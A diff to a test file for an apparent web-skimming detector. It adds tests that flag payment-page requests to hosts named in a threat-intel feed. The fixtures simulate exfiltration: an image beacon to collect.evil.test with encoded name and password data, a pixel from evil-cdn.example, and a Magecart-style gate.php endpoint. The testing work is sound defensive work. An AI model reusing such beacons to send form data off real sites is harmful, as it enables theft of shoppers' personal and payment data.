@@ -1,8 +1,11 @@
-"""SG310-SG311: where payment pages send requests."""
+"""SG310-SG312: where payment pages send requests (SG312: hosts a threat-intel feed lists)."""
 
 from __future__ import annotations
 
+import dataclasses
+
 from skimguard.detect.destinations import DestinationDetector
+from skimguard.intel import IntelIndex, parse_feed
 from skimguard.models import Capture, Finding, RequestRecord
 from skimguard.testing.factories import (
     VENDOR_URL,
@@ -130,8 +133,11 @@ def registration(*extra: RequestRecord) -> Capture:
 
 def test_personal_data_page_beacon_to_outside_host_is_high() -> None:
     # ruleid: SG310 — the registration page sends name, address, password out in an image URL
-    beacon = make_request("http://collect.evil.test/r.gif?q=" + "eyJuYW1lIjoiVGFybyIsInBhc3N3b3JkIjoi" * 3,
-                          resource_type="image", initiator="http://shop.test/member/register")
+    beacon = make_request(
+        "http://collect.evil.test/r.gif?q=" + "eyJuYW1lIjoiVGFybyIsInBhc3N3b3JkIjoi" * 3,
+        resource_type="image",
+        initiator="http://shop.test/member/register",
+    )
     findings = run(registration(beacon), baseline=registration())
     assert brief(findings) == [("SG310", "high", "register", "collect.evil.test")]
     assert findings[0].title.startswith("Page with personal-data fields sends requests to a new host")
@@ -141,6 +147,30 @@ def test_page_without_sensitive_fields_is_not_compared() -> None:
     # ok: SG310 — a plain content page may add hosts (covered by the script rules)
     beacon = make_request("http://collect.evil.test/r.gif?q=" + "x" * 100, resource_type="image")
     plain = make_capture([make_page("about", url="http://shop.test/about", scripts=(), forms=())])
-    with_beacon = make_capture([make_page("about", url="http://shop.test/about", scripts=(), forms=(),
-                                          extra_requests=(beacon,))])
+    with_beacon = make_capture(
+        [make_page("about", url="http://shop.test/about", scripts=(), forms=(), extra_requests=(beacon,))]
+    )
     assert run(with_beacon, baseline=plain) == []
+
+
+# ---------------------------------------------------------------------------- SG312
+
+
+def test_a_request_to_a_host_the_feed_lists_is_sg312_without_a_baseline() -> None:
+    # ruleid: SG312 — the vendor script loads a pixel from a listed Magecart domain
+    feed = parse_feed("# Reference: https://ref.example/x\nevil-cdn.example\n/errors/default/gate.php\n", "feed")
+    pixel = make_request("https://img.evil-cdn.example/p.gif?d=1", resource_type="image", initiator="http://x/v.js")
+    gate = make_request("http://shop.test/errors/default/gate.php", resource_type="xhr", method="POST")
+    page = payment_page(extra_requests=(pixel, gate))
+    ctx = dataclasses.replace(make_context(make_capture([page])), intel=IntelIndex.build(feed.indicators))
+    findings = [f for f in DestinationDetector().run(ctx) if f.rule_id == "SG312"]
+    assert sorted((f.rule_id, f.severity.label, f.page, f.subject) for f in findings) == [
+        ("SG312", "critical", "payment", "domain:evil-cdn.example"),
+        ("SG312", "critical", "payment", "path:/errors/default/gate.php"),
+    ]
+    pixel_finding = next(f for f in findings if f.subject.startswith("domain:"))
+    assert pixel_finding.destination == "img.evil-cdn.example" and pixel_finding.script_url == "http://x/v.js"
+    assert pixel_finding.evidence["reference"] == "https://ref.example/x"
+    # ok: SG312 — without a feed the rule is silent
+    quiet = make_context(make_capture([payment_page(extra_requests=(pixel,))]))
+    assert [f for f in DestinationDetector().run(quiet) if f.rule_id == "SG312"] == []
